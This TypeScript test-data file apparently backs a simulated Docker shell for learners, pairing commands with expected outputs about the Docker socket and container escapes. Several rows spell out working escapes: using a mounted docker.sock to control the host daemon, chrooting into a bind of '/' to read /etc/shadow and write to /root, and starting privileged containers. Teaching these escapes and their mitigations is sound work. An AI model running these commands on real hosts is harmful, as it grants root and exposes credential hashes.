import type { CorpusGroup } from './types';

const SOCK = '-v /var/run/docker.sock:/var/run/docker.sock';
const CLI = ['docker pull alpine:3.22', 'docker pull docker:cli'];
const WEB = [...CLI, 'docker run -d --name web alpine:3.22 sleep 1000'];
const NO_DAEMON =
  'failed to connect to the docker API at unix:///var/run/docker.sock; check if the path is correct and if the daemon is running: dial unix /var/run/docker.sock: connect: no such file or directory\n';

/** The daemon's socket, the docker:cli image, and what a mounted socket or a bind of `/` grants. */
const group: CorpusGroup = {
  group: 'docker: the socket and host escapes',
  source:
    'docs.docker.com/engine/install/linux-postinstall ("Manage Docker as a non-root user": root:docker srw-rw----); ' +
    'docs.docker.com/engine/security ("Docker daemon attack surface"); hub.docker.com/_/docker and ' +
    'docker-library/docker 29/cli/Dockerfile and docker-entrypoint.sh; docker/cli connection errors (Docker 29 wording, ' +
    'e.g. launchdarkly/find-code-references#65, chrisjbawden/cockpit-dockermanager#37); GNU coreutils chroot(1); ' +
    'BusyBox chroot applet; unix(7) (open on a socket: ENXIO)',
  rows: [
    { line: 'ls -l /var/run/docker.sock', expect: ['srw-rw---- 1 root docker 0 ', ' /var/run/docker.sock\n'] },
    { line: 'ls -l /run/docker.sock', expect: ['srw-rw---- 1 root docker 0 '] },
    { line: 'cat /var/run/docker.sock', expect: ['cat: /var/run/docker.sock: No such device or address'], exit: 1 },
    { line: 'docker pull docker:cli', expect: ['cli: Pulling from library/docker', 'Status: Downloaded newer image for docker:cli'] }, // prettier-ignore
    { line: 'docker pull docker:29-cli', expect: ['29-cli: Pulling from library/docker'] },
    {
      setup: CLI,
      line: "docker image inspect -f '{{.Config.Entrypoint}}' docker:cli",
      expect: ['[docker-entrypoint.sh]\n'],
    },
    { setup: CLI, line: 'docker history docker:cli', expect: ['ENV DOCKER_VERSION=29.0.1', 'CMD ["sh"]'] },
    {
      setup: CLI,
      line: 'docker run --rm docker:cli env',
      expect: ['DOCKER_VERSION=29.0.1\n', 'DOCKER_TLS_CERTDIR=/certs\n'],
    },
    { setup: CLI, line: 'docker run --rm docker:cli docker --version', expect: ['Docker version 29.0.1'] },
    { setup: CLI, line: 'docker run --rm docker:cli docker ps', expect: [NO_DAEMON], exit: 1 },
    { setup: CLI, line: 'docker run --rm docker:cli ps', expect: [NO_DAEMON], exit: 1 },
    { setup: CLI, line: 'docker run --rm docker:cli docker images', expect: [NO_DAEMON], exit: 1 },
    { setup: CLI, line: 'docker run --rm docker:cli docker run alpine:3.22', expect: [NO_DAEMON], exit: 1 },
    { setup: CLI, line: 'docker run --rm docker:cli docker version', expect: ['Client:\n Version:           29.0.1', NO_DAEMON], not: ['Server:'], exit: 1 }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm docker:cli git --version', expect: [], notSimulated: true },
    { setup: CLI, line: 'docker run --rm alpine:3.22 ls -l /var/run/docker.sock', expect: ['ls: /var/run/docker.sock: No such file or directory'], exit: 1 }, // prettier-ignore
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli ls -l /var/run/docker.sock`, expect: [/^srw-rw---- +1 root +990 +0 .* \/var\/run\/docker\.sock\n$/] }, // prettier-ignore
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli ls -l /run/docker.sock`, expect: ['srw-rw----'] },
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli cat /var/run/docker.sock`, expect: ["cat: can't open '/var/run/docker.sock': No such device or address"], exit: 1 }, // prettier-ignore
    { setup: WEB, line: `docker run --rm ${SOCK} docker:cli docker ps`, expect: [/ web\n/, /docker:cli +"docker-entrypoint\.s…"/] }, // prettier-ignore
    { setup: WEB, line: `docker run --rm ${SOCK} docker:cli ps`, expect: [/ web\n/] },
    {
      setup: WEB,
      line: `docker run --rm -v /run/docker.sock:/run/docker.sock docker:cli docker ps`,
      expect: [/ web\n/],
    },
    { setup: WEB, line: `docker run --rm ${SOCK}:ro docker:cli docker ps`, expect: [/ web\n/] },
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli docker run --rm alpine:3.22 echo hi`, expect: ['hi\n'] },
    { setup: [...CLI, `docker run --rm ${SOCK} docker:cli docker run -d --name sib alpine:3.22 sleep 100`], line: 'docker ps', expect: [/ sib\n/] }, // prettier-ignore
    { setup: WEB, line: `docker run --rm ${SOCK} docker:cli docker stop web`, expect: ['web\n'] },
    { setup: [...WEB, `docker run --rm ${SOCK} docker:cli docker rm -f web`], line: 'docker ps -a', expect: [], not: [/ web\n/] }, // prettier-ignore
    { setup: WEB, line: `docker run --rm ${SOCK} docker:cli docker inspect -f '{{.State.Status}}' web`, expect: ['running\n'] }, // prettier-ignore
    { setup: WEB, line: `docker run --rm ${SOCK} docker:cli sh -c 'docker ps -q | wc -l'`, expect: ['2\n'] },
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli docker psx`, expect: ['docker: unknown command: docker psx'], exit: 1 }, // prettier-ignore
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli docker ps --bogus`, expect: ['unknown flag: --bogus'], exit: 125 }, // prettier-ignore
    { setup: CLI, line: `docker run --rm --user 1000 ${SOCK} docker:cli docker ps`, expect: ['permission denied while trying to connect to the docker API at unix:///var/run/docker.sock\n'], exit: 1 }, // prettier-ignore
    { setup: CLI, line: `docker run --rm ${SOCK} alpine:3.22 docker ps`, expect: ['exec: "docker": executable file not found in $PATH'], exit: 127 }, // prettier-ignore
    { setup: [...CLI, `docker run -d --name c ${SOCK} docker:cli sleep 100`], line: "docker inspect -f '{{json .Mounts}}' c", expect: ['"Type":"bind","Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock"', '"RW":true'] }, // prettier-ignore
    { setup: [...CLI, `docker run -d --name c ${SOCK}:ro docker:cli sleep 100`], line: "docker inspect -f '{{json .Mounts}}' c", expect: ['"RW":false'] }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 chroot /host cat /etc/shadow', expect: [/^root:/] },
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 cat /host/etc/os-release', expect: ['PRETTY_NAME="Debian GNU/Linux 13 (trixie)"'] }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 chroot /host cat /etc/os-release', expect: ['Debian GNU/Linux 13'] }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 ls /host/home', expect: ['learner\n'] },
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 chroot /host id', expect: ['uid=0(root) gid=0(root)'] },
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 chroot /host hostname', expect: [/^[0-9a-f]{12}\n$/] },
    { setup: [...CLI, "docker run --rm -v /:/host alpine:3.22 chroot /host sh -c 'echo pwned > /root/pwned'"], line: 'sudo cat /root/pwned', expect: ['pwned\n'] }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 chroot /host ls -l /var/run/docker.sock', expect: ['srw-rw---- 1 root docker 0'] }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm --cap-drop SYS_CHROOT -v /:/host alpine:3.22 chroot /host', expect: ["chroot: can't change root directory to '/host': Operation not permitted"], exit: 1 }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm --cap-drop ALL -v /:/host alpine:3.22 chroot /host', expect: ["chroot: can't change root directory to '/host': Operation not permitted"], exit: 1 }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm --user 1000 -v /:/host alpine:3.22 chroot /host', expect: ["chroot: can't change root directory to '/host': Operation not permitted"], exit: 1 }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm -v /:/host alpine:3.22 chroot /host nosuch', expect: ["chroot: can't execute 'nosuch': No such file or directory"], exit: 127 }, // prettier-ignore
    { setup: CLI, line: 'docker run --rm -v /:/host:ro alpine:3.22 chroot /host', expect: [], notSimulated: true },
    { setup: CLI, line: 'docker run --rm -v /tmp:/host alpine:3.22 chroot /host', expect: [], notSimulated: true },
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli docker run --rm -v /:/host alpine:3.22 chroot /host cat /etc/shadow`, expect: [/^root:/] }, // prettier-ignore
    { setup: CLI, line: `docker run --rm ${SOCK} docker:cli docker run --rm --privileged alpine:3.22 grep CapEff /proc/self/status`, expect: ['CapEff:\t000001ffffffffff\n'] }, // prettier-ignore
  ],
};
export default group;
